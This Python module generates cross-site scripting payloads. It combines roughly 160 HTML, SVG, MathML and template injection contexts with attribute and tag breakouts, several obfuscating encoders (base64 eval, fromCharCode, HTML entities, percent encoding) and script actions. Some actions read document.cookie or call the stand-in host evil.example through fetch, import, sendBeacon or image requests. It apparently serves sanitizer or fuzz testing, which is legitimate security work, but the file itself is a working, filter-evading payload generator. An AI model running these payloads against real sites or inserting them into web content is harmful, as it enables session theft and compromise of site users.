"""Lines of script as people try them on pages: ways out of a place in HTML, what is run there, and how it is spelled.

They are made here and copied from no collection. A line that is run sets `ran`, opens a dialog or asks another host.
"""

import base64
import random
from itertools import cycle

_EVIL = "//evil.example/"
_ACTIONS = (
    "ran=1",
    "window.ran=1",
    "top['ran']=1",
    "self[`ran`]=1",
    "globalThis.ran=1",
    "parent.ran=document.cookie",
    "alert(1)",
    "alert`1`",
    "(confirm)(1)",
    "prompt(document.domain)",
    "print()",
    f"fetch('{_EVIL}')",
    f"import('{_EVIL}x.js')",
    f"new Image().src='{_EVIL}'",
    f"navigator.sendBeacon('{_EVIL}',1)",
    f"location='{_EVIL}'",
    "document.body.innerHTML=''",
    "setTimeout('ran=1')",
    "[].map.constructor('ran=1')()",
    "onerror=alert;throw 1",
)


def _plain(script: str) -> str:
    return script


def _decimal(script: str) -> str:
    return "".join(f"&#{ord(each)};" for each in script)


def _hexadecimal(script: str) -> str:
    return "".join(f"&#x{ord(each):X};" for each in script)


def _padded(script: str) -> str:
    return "".join(f"&#0000{ord(each)}" if each.isalpha() else each for each in script)


def _named(script: str) -> str:
    return script.replace("(", "&lpar;").replace(")", "&rpar;").replace("=", "&equals;").replace("'", "&apos;")


def _evaluated(script: str) -> str:
    return f"eval(atob('{base64.b64encode(script.encode()).decode()}'))"


def _codes(script: str) -> str:
    return f"eval(String.fromCharCode({','.join(str(ord(each)) for each in script)}))"


def _escaped(script: str) -> str:
    return "".join(f"\\u{ord(each):04x}" if each.isalpha() and place < 2 else each for place, each in enumerate(script))


def _percent(script: str) -> str:
    return "".join(f"%{ord(each):02X}" if not each.isalpha() else each for each in script)


_WRITTEN = (_plain, _decimal, _hexadecimal, _padded, _named, _evaluated, _codes, _escaped, _percent)
_BREAKOUTS = (
    "",
    '">',
    "'>",
    "`>",
    ">",
    "-->",
    "--!>",
    "]]>",
    "*/",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</mark></p>",
    "&quot;>",
    "\\x3e",
    '"/>',
    "'/>",
    "\u201d>",
    "%22%3E",
    "\r>",
    "{{'",
)
_ELEMENTS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT >",
    "<script/x>{js}</script\t>",
    "<script\x0c>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script src=data:text/javascript,{js}></script>",
    f"<script src={_EVIL}x.js></script>",
    "<script type=module>{js}</script>",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<<script>{js}//<</script>",
    "＜script＞{js}＜/script＞",
    "‹script›{js}‹/script›",
    "<s\u200bcript>{js}</s\u200bcript>",
    "<\u00adscript>{js}</script>",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<img src=x onerror='{js}'>",
    "<img src=x onerror=`{js}`>",
    "<img/src=`%00`/onerror={js}>",
    "<IMG SRC=x OnErRoR\t=\t{js}>",
    '<img """><script>{js}</script>">',
    f'<img src="{_EVIL}">',
    f'<img srcset="{_EVIL} 1x" onload={{js}}>',
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{js} />",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{js}>",
    '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{js}'/>#x\">",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'>",
    "<svg><style><img src=x onerror={js}></style>",
    "<svg><desc><![CDATA[</desc><script>{js}</script>]]></svg>",
    "<math href=javascript:{js}>x</math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    '<math><annotation-xml encoding="text/html"><script>{js}</script>',
    "<maction actiontype=statusline xlink:href=javascript:{js}>x",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={js} src>">',
    '<table><td background="javascript:{js}">',
    "<template><script>{js}</script></template>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<xmp><img src=x onerror={js}></xmp>",
    "<plaintext><img src=x onerror={js}>",
    "<body onload={js}>",
    "<body onpageshow={js} onhashchange={js}>",
    "<html onmouseover={js}>",
    "<iframe src=javascript:{js}>",
    '<iframe srcdoc="<script>parent.{js}</script>">',
    "<iframe srcdoc=&lt;script&gt;{js}&lt;/script&gt;>",
    "<iframe onload={js}>",
    "<object data=javascript:{js}>",
    f"<object data={_EVIL}></object>",
    "<embed src=javascript:{js}>",
    "<embed src=data:text/html,<script>{js}</script>>",
    "<applet code=javascript:{js}>",
    "<a href=javascript:{js}>x</a>",
    '<a href="JaVaScRiPt:{js}">x</a>',
    '<a href="java\tscript:{js}">x</a>',
    '<a href="java&Tab;script&colon;{js}">x</a>',
    '<a href="&#1;javascript:{js}">x</a>',
    '<a href=" \x0bjavascript:{js}">x</a>',
    '<a href="javascript\u2028:{js}">x</a>',
    '<a href="javascript://%0a{js}">x</a>',
    '<a href="data:text/html,<script>{js}</script>">x</a>',
    '<a href="vbscript:{js}">x</a>',
    f"<a href=x ping={_EVIL}>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{js}</script>",
    "<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-",
    f"<base href={_EVIL}>",
    "<base href=javascript:{js}//>",
    f"<link rel=stylesheet href={_EVIL}x.css>",
    f"<link rel=prefetch href={_EVIL}>",
    "<link rel=import href=data:text/html,<script>{js}</script>>",
    "<style>@import 'javascript:{js}';</style>",
    f"<style>@import '{_EVIL}x.css';*{{{{background:url({_EVIL})}}}}</style>",
    "<style>*{{x:expression({js})}}</style>",
    f"<p style=\"background:url('{_EVIL}')\">x</p>",
    '<p style="x:expression({js})">x</p>',
    '<p style="behavior:url(#x);-moz-binding:url(javascript:{js})">x</p>',
    '<p style="animation:x" onanimationstart={js}>x</p>',
    "<form action=javascript:{js}><button>x</button></form>",
    f"<form action={_EVIL}><input name=q><button autofocus>x</button></form>",
    "<button formaction=javascript:{js}>x</button>",
    "<isindex type=image src=1 onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<input type=image src=x onerror={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<keygen autofocus onfocus={js}>",
    "<video src=x onerror={js}>",
    "<video><source onerror={js}></video>",
    f"<video poster={_EVIL}></video>",
    "<audio src=x onerror={js}>",
    "<details open ontoggle={js}>",
    "<dialog open onclose={js}><form method=dialog><button>x",
    "<marquee onstart={js}>",
    "<bgsound src=javascript:{js}>",
    "<p onpointerover={js}>x</p>",
    "<p tabindex=1 onfocus={js} id=x>x</p>",
    "<p contenteditable oninput={js} onbeforeinput={js}>x</p>",
    "<p popover onbeforetoggle={js}>x</p>",
    "<x oncopy={js} onpaste={js} oncut={js} draggable=true ondrag={js}>x</x>",
    "<x onclick={js} onauxclick={js} oncontextmenu={js} accesskey=x>x</x>",
    "<x/onwheel={js}/onscroll={js}>x",
    '" autofocus onfocus={js} x="',
    "' autofocus onfocus={js} x='",
    "` onmouseover={js} x=`",
    " onmouseover={js} ",
    '"onmouseover="{js}"',
    "javascript:{js}",
    "JAVASCRIPT:{js}",
    "\x01javascript:{js}",
    "java\r\nscript:{js}",
    "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==#{js}",
    "data:text/html,<script>{js}</script>",
    "blob:{js}",
    "jar:javascript:{js}!/",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{7*7}}}}{{{{{js}}}}}",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}",
    "{{{{ '<script>{js}</script>'|safe }}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "[[${{{js}}}]]",
    "@({js})",
    "{{$on.constructor('{js}')()}}",
    "v-html=\"'<img src=x onerror={js}>'\"",
    "<x ng-app ng-csp>{{{{$eval('{js}')}}}}</x>",
    "<?xml version=\"1.0\"?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script>",
    "<?php {js} ?>",
    '<!DOCTYPE x [<!ENTITY y "<script>{js}</script>">]>&y;',
    "<xml onreadystatechange={js}>",
    '<!--#exec cmd="{js}"-->',
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "';{js};'",
    '";{js};"',
    "`;{js};`",
    "\\';{js}//",
    "</script><script>{js}//",
    "'-({js})-'",
    "${{`${{{js}}}`}}",
    "/*'/*`/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{js}//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{js} )//%0D%0A</stYle/</titLe/--!>\\x3csVg/<sVg/oNloAd={js}//>\\x3e",
    "\u202e<script>{js}</script>\u202c",
    "\ufeff<script>{js}</script>",
    "<script>{js}\u2028</script>",
    "<a id=ran><a id=ran name=y href=javascript:{js}>",
    "<form id=document><input name=cookie value='{js}'>",
    "<portal src=javascript:{js}>",
    "<fencedframe src=javascript:{js}>",
    "<p id=x tabindex=1 onfocusin={js}></p><iframe src=#x>",
    "<frameset onload={js}><frame src=javascript:{js}>",
    "<ſcript>{js}</ſcript>",
    "<ıframe src=javascript:{js}>",
    "😀<svg/onload={js}>",
)
_SEED = 7


def payloads(count: int) -> list[str]:
    """Make so many different lines, the same ones every time, each context as often as any other."""
    chance, made = random.Random(_SEED), dict[str, None]()  # noqa: S311 - the same lines every time
    for element in cycle(_ELEMENTS):
        if len(made) == count:
            return list(made)
        script = chance.choice(_WRITTEN)(chance.choice(_ACTIONS))
        made[chance.choice(_BREAKOUTS) + element.format(js=script)] = None
    raise AssertionError
